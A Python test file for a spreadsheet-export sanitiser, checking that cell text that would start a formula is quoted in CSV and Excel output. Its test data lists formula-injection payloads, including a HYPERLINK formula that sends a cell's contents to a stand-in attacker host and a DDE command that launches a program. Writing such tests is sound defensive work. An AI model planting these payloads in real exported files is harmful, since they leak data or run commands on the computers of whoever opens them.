"""No text becomes a formula in CSV or Excel; tested with what spreadsheets are known to run."""

import csv
import io
import zipfile

import pyarrow as pa
import pytest
import xlsxwriter
from hypothesis import given, settings
from hypothesis import strategies as st

from reports.spreadsheets import LONGEST_CELL, WORKBOOK_OPTIONS, csv_table, csv_text, safe_text

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"詳細")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1",
    "＝1＋1", "＋81", "－1", "＠x", "  =1", "\u3000=1", "\ufeff=1", "\u200b=1", "\x00=1", "\x07\u00a0=1", "=1\x00", "- 返品したい", "-",
]  # fmt: skip
STARTS = set("=+-@\t\r\n＝＋－＠")


@pytest.mark.parametrize("text", FORMULAS)
def test_what_starts_a_formula_is_quoted(text):
    assert safe_text(text).startswith("'")


@pytest.mark.parametrize(
    "text", ["", "詰め替え", "A=B", "1,000円", "'=1", "（＝内容）", "C++", "3-4日", "😀", "㈱髙①"]
)
def test_other_texts_stay_as_they_are(text):
    assert safe_text(text) == text


@given(st.text(max_size=60))
def test_no_text_at_all_begins_like_a_formula(text):
    safe = safe_text(text)
    assert not safe.strip() or safe.lstrip(" \u00a0\u3000")[0] not in STARTS
    assert "\x00" not in safe
    assert safe_text(safe) == safe


@given(
    st.lists(
        st.lists(st.one_of(st.text(max_size=20), st.integers(), st.none()), min_size=2, max_size=2),
        max_size=8,
    )
)
def test_tables_keep_their_shape_and_every_cell_is_safe(rows):
    text = csv_text(["番号", "=件数"], rows)
    assert text.startswith("\ufeff番号,'=件数\r\n")
    read = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert len(read) == len(rows) + 1
    for given_row, found in zip(rows, read[1:], strict=True):
        for value, cell in zip(given_row, found, strict=True):
            assert cell == (
                safe_text(value) if isinstance(value, str) else "" if value is None else str(value)
            )


@settings(deadline=None)  # the first call loads the library
@given(
    st.lists(
        st.tuples(
            st.none()
            | st.text(max_size=20)
            | st.sampled_from([*FORMULAS, "あ" * 32_767, "い\u3000う", '"引用",']),
            st.none() | st.integers(-5, 5),
            st.none() | st.dates(),
        ),
        max_size=8,
    )
)
def test_a_table_written_column_by_column_is_the_one_written_cell_by_cell(rows):
    columns = list(zip(*rows, strict=True)) or [(), (), ()]
    kinds = [pa.string(), pa.int64(), pa.date32()]
    names = ["＝話題", "件", "日,付"]
    arrays = [pa.chunked_array([pa.array(column, kind)]) for column, kind in zip(columns, kinds, strict=True)]
    assert csv_table(pa.table(dict(zip(names, arrays, strict=True)))) == csv_text(names, rows).encode()


def test_a_workbook_holds_texts_and_no_formulas_or_links(tmp_path):
    path = tmp_path / "table.xlsx"
    with xlsxwriter.Workbook(path, WORKBOOK_OPTIONS) as book:
        sheet = book.add_worksheet()
        for row, text in enumerate([*FORMULAS, "https://evil.example", "00123", "あ" * 40_000]):
            sheet.write(row, 0, safe_text(text))
    with zipfile.ZipFile(path) as parts:
        assert b"<f>" not in parts.read("xl/worksheets/sheet1.xml")
        assert not [name for name in parts.namelist() if "_rels/sheet1" in name]
    assert len(safe_text("あ" * 40_000)) == LONGEST_CELL
